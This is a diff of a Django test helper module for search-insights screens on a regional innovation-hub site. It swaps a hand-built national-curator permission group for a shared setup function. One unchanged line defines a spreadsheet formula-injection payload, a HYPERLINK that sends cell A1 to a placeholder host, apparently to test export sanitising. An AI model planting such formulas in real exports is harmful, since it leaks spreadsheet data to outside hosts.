@@ -4,10 +4,11 @@ recorded searches, built once per test module (pages are slow to create)."""
 import datetime
 
 from django.contrib.auth import get_user_model
-from django.contrib.auth.models import Group, Permission
+from django.contrib.auth.models import Permission
 from django.utils import timezone
 
 from innovations.models import HubPage
+from innovations.permissions import ensure_national_curators
 from insights.models import ResultClick, SearchAppearance, SearchEvent
 from tests.factories import JAWA_TIMUR, create_innovation
 
@@ -16,21 +17,10 @@ HUB_A = "JIPP Provinsi Jawa Barat"
 HUB_B = "JIPP Provinsi Jawa Timur"
 INJECTION = '=HYPERLINK("http://contoh.test/?x="&A1,"klik")'
 
-NATIONAL_PERMISSIONS = [
-    ("wagtailadmin", "access_admin"),
-    ("insights", "view_searchinsights"),
-    *(("hubsearch", f"{action}_synonym") for action in ("add", "change", "delete", "view")),
-]
-
 
 def national_group():
-    """What coord's "Kurator nasional" group receives for these screens."""
-    group, _ = Group.objects.get_or_create(name="Kurator nasional (uji)")
-    for app_label, codename in NATIONAL_PERMISSIONS:
-        group.permissions.add(
-            Permission.objects.get(content_type__app_label=app_label, codename=codename)
-        )
-    return group
+    """The site's own "Kurator nasional" group, as setup_roles makes it."""
+    return ensure_national_curators()
 
 
 def make_user(username, *groups, superuser=False, permissions=()):
